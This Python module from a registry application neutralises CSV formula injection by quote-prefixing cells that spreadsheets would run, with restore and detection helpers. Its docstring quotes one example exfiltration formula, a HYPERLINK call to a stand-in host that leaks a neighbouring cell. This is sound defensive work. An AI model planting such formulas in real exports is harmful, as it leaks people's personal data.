"""Cells that a spreadsheet program would run as a formula, made harmless on the way out.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their
full-width forms) is a formula to Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://x/?"
&W2, "Open")`` in one cell sends the neighbouring cell (relatives' contacts, say) to anyone who
clicks. Every CSV the registry writes (the API's, the admin's spreadsheets, dataset files)
passes each cell through ``neutralise``, which prefixes such a cell with a single quote, as
OWASP recommends for CSV injection: the program then shows the text as typed. XLSX files hold
such cells as text cells, which are never formulas (``registry.core.spreadsheets.formats``).

A cell already beginning with a single quote is prefixed too, so that ``restore`` (used when
the registry reads its own spreadsheets back) takes off exactly what ``neutralise`` added, and
an export imported again changes nothing.
"""

# What makes a spreadsheet program read a cell as a formula.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
_PREFIXED = FORMULA_TRIGGERS | {QUOTE}


def neutralise(cell):
    """``cell`` as a CSV writes it: text prefixed with ``'`` when a spreadsheet program would
    run it (or when it begins with ``'`` already); anything else as it is."""
    if isinstance(cell, str) and cell and cell[0] in _PREFIXED:
        return QUOTE + cell
    return cell


def restore(cell):
    """``neutralise`` undone: the text that was exported."""
    if len(cell) > 1 and cell[0] == QUOTE and cell[1] in _PREFIXED:
        return cell[1:]
    return cell


def is_formula_like(cell):
    """Whether a spreadsheet program would read ``cell`` as a formula."""
    return bool(cell) and cell[0] in FORMULA_TRIGGERS
